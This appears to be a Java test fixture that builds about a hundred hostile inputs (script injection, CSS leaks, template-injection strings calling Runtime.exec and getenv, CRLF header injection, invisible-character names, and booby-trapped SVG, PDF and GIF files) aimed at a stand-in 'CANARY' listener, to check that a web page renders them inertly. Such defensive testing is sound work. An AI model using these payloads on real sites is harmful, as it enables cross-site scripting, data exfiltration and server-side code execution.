package org.bevara.web;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.stream.IntStream;
import org.jspecify.annotations.Nullable;

/// A hundred contents, each of which tries to act in the browser of whoever looks at it.
///
/// `CANARY` stands for the listener that must hear nothing.
final class HostileContents {

  /// What stands in an item's fields; what is null is harmless there.
  record Content(
      int number,
      String text,
      @Nullable String author,
      @Nullable String handle,
      @Nullable String alt,
      @Nullable String fragment,
      @Nullable File file) {}

  /// A medium with hostile bytes.
  record File(String name, String declaredType, String bytes) {}

  /// Markup for the page itself, which its DOM then holds. What stands in `noscript` sleeps as long
  /// as scripts run, and wakes where they do not.
  static final List<String> MARKUP =
      List.of(
          "<noscript><meta http-equiv=\"refresh\" content=\"0;url=http://CANARY/refresh\"></noscript>",
          "<noscript><base href=\"http://CANARY/base/\"><img src=\"relative.png\"></noscript>",
          "<noscript><link rel=\"preconnect\" href=\"http://CANARY/\"></noscript>",
          "<noscript><link rel=\"dns-prefetch\" href=\"http://CANARY/\"><link rel=\"prefetch\" href=\"http://CANARY/prefetch\"></noscript>",
          "<noscript><link rel=\"stylesheet\" href=\"http://CANARY/style.css\"></noscript>",
          "<noscript><link rel=\"modulepreload\" href=\"http://CANARY/m.js\"><link rel=\"manifest\" href=\"http://CANARY/m.json\"><link rel=\"icon\" href=\"http://CANARY/i.ico\"></noscript>",
          "<noscript><iframe src=\"http://CANARY/frame\"></iframe><iframe srcdoc=\"&lt;script src=//CANARY/s.js>&lt;/script>\"></iframe></noscript>",
          "<noscript><object data=\"http://CANARY/object\"></object><embed src=\"http://CANARY/embed\"></noscript>",
          "<noscript><video autoplay src=\"http://CANARY/video\" poster=\"http://CANARY/poster\"></video><audio autoplay src=\"http://CANARY/audio\"></audio></noscript>",
          "<noscript><form action=\"http://CANARY/form\"><input name=\"a\" autofocus><button>x</button></form></noscript>",
          "<noscript><svg><image href=\"http://CANARY/svg\"/><use href=\"http://CANARY/use#a\"/><feImage href=\"http://CANARY/fe\"/></svg></noscript>",
          "<noscript><math><mtext><mglyph src=\"http://CANARY/glyph\"></mglyph></mtext></math></noscript>",
          "<noscript><picture><source srcset=\"http://CANARY/srcset\"><img src=\"http://CANARY/img\"></picture><img srcset=\"http://CANARY/set 1x\"></noscript>",
          "<noscript><table background=\"http://CANARY/background\"><tr><td background=\"http://CANARY/td\">x</td></tr></table></noscript>",
          "<style>@import url(http://CANARY/import.css); body { background: url(http://CANARY/css) } @font-face { font-family: f; src: url(http://CANARY/font) } * { font-family: f }</style>",
          "<style>a[href^=\"http\"] { background: url(http://CANARY/leak-a) } input[value^=\"b\"] { background: image-set(url(http://CANARY/leak-b) 1x) }</style>",
          "<div style=\"background-image: url(http://CANARY/inline); list-style: url(http://CANARY/list); cursor: url(http://CANARY/cursor), auto\">x</div>",
          "<a id=\"bait\" href=\"javascript:fetch('http://CANARY/js')\" ping=\"http://CANARY/ping\">x</a><a href=\"data:text/html,<script src=//CANARY/d.js></script>\">y</a>",
          "<noscript><script>fetch('http://CANARY/noscript')</script><img src=x onerror=\"fetch('http://CANARY/onerror')\"></noscript>",
          "<div><template shadowrootmode=\"open\"><style>:host { background: url(http://CANARY/shadow) }</style><img src=\"http://CANARY/shadow-img\"></template></div>");

  private static final List<String> SCRIPTS =
      List.of(
          "<script>fetch('http://CANARY/1');document.title='owned'</script>",
          "<img src=x onerror=\"fetch('http://CANARY/2');document.title='owned'\">",
          "<svg onload=\"fetch('http://CANARY/3')\"><script>document.title='owned'</script></svg>",
          "\"><script src=http://CANARY/4.js></script>",
          "'><script src=//CANARY/5.js></script>",
          "--><script src=//CANARY/6.js></script><!--",
          "]]><script src=//CANARY/7.js></script>",
          "</title><script src=//CANARY/8.js></script>",
          "</textarea><script src=//CANARY/9.js></script>",
          "</style><script src=//CANARY/10.js></script><style>",
          "<iframe src=\"http://CANARY/11\"></iframe>",
          "<iframe srcdoc=\"<script src=//CANARY/12.js></script>\"></iframe>",
          "<object data=\"http://CANARY/13\"></object>",
          "<embed src=\"http://CANARY/14\">",
          "<meta http-equiv=\"refresh\" content=\"0;url=http://CANARY/15\">",
          "<base href=\"http://CANARY/16/\">",
          "<link rel=\"stylesheet\" href=\"http://CANARY/17\">",
          "<link rel=\"preconnect\" href=\"http://CANARY\">",
          "<form action=\"http://CANARY/19\"><button autofocus onfocus=submit()>x</button></form>",
          "<math><mtext></form><form><mglyph><style></math><img src onerror=fetch('http://CANARY/20')>",
          "<noscript><p title=\"</noscript><img src=x onerror=fetch('http://CANARY/21')>\">",
          "<details open ontoggle=\"fetch('http://CANARY/22')\">",
          "<video><source onerror=\"fetch('http://CANARY/23')\"></video>",
          "<input autofocus onfocus=\"fetch('http://CANARY/24')\">",
          "<a href=\"javascript:fetch('http://CANARY/25')\">x</a>",
          "<img src=\"http://CANARY/26\">",
          "<img srcset=\"http://CANARY/27 1x\">",
          "<style>@import 'http://CANARY/28';</style>",
          "<div style=\"background:url(http://CANARY/29)\">",
          "<body background=\"http://CANARY/30\" onload=\"alert(1)\">",
          "<marquee onstart=\"alert(2)\">x</marquee>",
          "<x onclick=\"alert(3)\" tabindex=1 autofocus onfocus=alert(4)>",
          "&lt;script&gt;fetch('http://CANARY/33')&lt;/script&gt;",
          "<script>navigator.serviceWorker.register('http://CANARY/sw.js')</script>",
          "<script type=\"speculationrules\">{\"prefetch\":[{\"urls\":[\"http://CANARY/35\"]}]}</script>",
          "<script>window.open('http://CANARY/36');location='http://CANARY/36b'</script>",
          "<div hx-get=\"http://CANARY/37\" hx-trigger=\"load\">x</div>",
          "<div hx-on:load=\"fetch('http://CANARY/38')\" data-hx-get=\"/logout\" data-hx-trigger=\"load\">x</div>",
          "<div hx-vals='js:{a: fetch(\"http://CANARY/39\")}' hx-get=\"/\" hx-trigger=\"load\"></div>",
          "\u2028<script>fetch('http://CANARY/40')</script>\u2029");

  private static final List<String> TEMPLATES =
      List.of(
          "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
          "[(${T(java.lang.System).getenv()})]",
          "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
          "<p th:utext=\"${@environment}\" th:text=\"'owned'\">x</p>",
          "${7*7} #{7*7} *{7*7} @{//CANARY/x} ~{::x}",
          "{{constructor.constructor('fetch(\"http://CANARY/45\")')()}}",
          "<%= 7*7 %> <#assign x=7*7> #set($x=7*7)",
          "%{(#a=@java.lang.Runtime@getRuntime())}",
          "redirect:http://CANARY/48",
          "forward:/fault");

  /// Characters that cannot be seen, and line breaks that would begin another header.
  private static final List<String> NAMES =
      List.of(
          "Kommun\u202Eneladnah\u202C",
          "Maja\u200B\u200C\u2060 Exempel\uFEFFsson",
          "\u2066Registrator\u2069\u202D",
          "X\r\nSet-Cookie: bevara=owned\r\n\r\n<script>fetch('http://CANARY/53')</script>",
          "x\" onmouseover=\"fetch('http://CANARY/54')\" autofocus onfocus=\"fetch('http://CANARY/54')",
          "x' autofocus onfocus='fetch(`http://CANARY/55`)' a='",
          "<script>fetch('http://CANARY/56')</script>",
          "<b>fet</b><!--",
          "\uDB40\uDC41\uDB40\uDC42tagg",
          "Å\u0336\u0337\u0338\u0335".repeat(20));

  private static final List<String> FRAGMENTS =
      List.of(
          "c\"><script>fetch('http://CANARY/60')</script>",
          "javascript:fetch('http://CANARY/61')",
          "c' onclick='fetch(`http://CANARY/62`)",
          "%0d%0aSet-Cookie:%20bevara=owned",
          "../../../logout",
          "?ui=xx&_csrf=1",
          "[[${7*7}]]",
          "\u202Egnp.exe",
          "data:text/html,<script>alert(8)</script>",
          "//CANARY/69");

  private static final List<File> FILES =
      List.of(
          new File(
              "a.svg",
              "image/svg+xml",
              "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('http://CANARY/70')\"><script>fetch('http://CANARY/70b');document.title='owned'</script></svg>"),
          new File(
              "b.svg",
              "image/svg+xml",
              "<?xml version=\"1.0\"?><?xml-stylesheet href=\"http://CANARY/71\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"http://CANARY/71b\">]><svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"http://CANARY/71c\" width=\"9\" height=\"9\"/><text>&x;</text></svg>"),
          new File(
              "c.svg",
              "image/svg+xml",
              "<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"><iframe src=\"http://CANARY/72\"/><meta http-equiv=\"refresh\" content=\"0;url=http://CANARY/72b\"/><link rel=\"preconnect\" href=\"http://CANARY/\"/></body></foreignObject></svg>"),
          new File(
              "d.png",
              "image/png",
              "<html><script>fetch('http://CANARY/73');document.title='owned'</script></html>"),
          new File(
              "e.gif",
              "image/gif",
              "GIF89a=1;fetch('http://CANARY/74');/*<script>fetch('http://CANARY/74b')</script>*/"),
          new File(
              "f.html",
              "text/html",
              "<script>fetch('http://CANARY/75');document.title='owned'</script><meta http-equiv=refresh content='0;url=http://CANARY/75b'>"),
          new File(
              "g.json",
              "application/json",
              "{\"a\":\"<script>fetch('http://CANARY/76')</script>\"}"),
          new File(
              "h.xml",
              "application/xml",
              "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"http://CANARY/77\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><script>fetch('http://CANARY/77b')</script></html>"),
          new File(
              "i.pdf",
              "application/pdf",
              "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://CANARY/78'\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>"),
          new File("j\"><script>.png", "image/png", "<script>fetch('http://CANARY/79')</script>"),
          new File(
              "k.mhtml",
              "multipart/related",
              "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<script>fetch('http://CANARY/80')</script>\r\n--x--"),
          new File("l.js", "text/javascript", "fetch('http://CANARY/81');document.title='owned'"));

  private HostileContents() {}

  /// All of them, with the listener's place in them.
  static List<Content> all(String canary) {
    List<Content> all = new ArrayList<>();
    for (String script : SCRIPTS) {
      add(all, canary, script, null, null, null, null, null);
    }
    for (String template : TEMPLATES) {
      add(all, canary, template, template, null, template, null, null);
    }
    for (String name : NAMES) {
      add(all, canary, "namn", name, name, null, null, null);
    }
    for (String fragment : FRAGMENTS) {
      add(all, canary, "adress", null, null, null, fragment, null);
    }
    for (File file : FILES) {
      add(all, canary, "fil", null, null, SCRIPTS.get(0), null, file);
    }
    // what is left of the hundred: scripts where a name and an alternative text should be
    IntStream.range(0, 100 - all.size())
        .forEach(i ->
            add(
                all,
                canary,
                "överallt " + SCRIPTS.get(i + 3),
                SCRIPTS.get(i),
                SCRIPTS.get(i + 1),
                SCRIPTS.get(i + 2),
                null,
                FILES.get(i % 3)));
    return all;
  }

  private static void add(
      List<Content> all,
      String canary,
      String text,
      @Nullable String author,
      @Nullable String handle,
      @Nullable String alt,
      @Nullable String fragment,
      @Nullable File file) {
    all.add(
        new Content(
            all.size(),
            aimed(text, canary),
            author == null ? null : aimed(author, canary),
            handle == null ? null : aimed(handle, canary),
            alt == null ? null : aimed(alt, canary),
            fragment == null ? null : aimed(fragment, canary),
            file == null
                ? null
                : new File(file.name(), file.declaredType(), aimed(file.bytes(), canary))));
  }

  static String aimed(String hostile, String canary) {
    return hostile.replace("CANARY", canary);
  }

  /// Where a medium of an item lies on the hostile site.
  static Map.Entry<String, File> place(Content content) {
    File file = Objects.requireNonNull(content.file());
    return Map.entry("/media/%d/%s".formatted(content.number(), file.name()), file);
  }
}
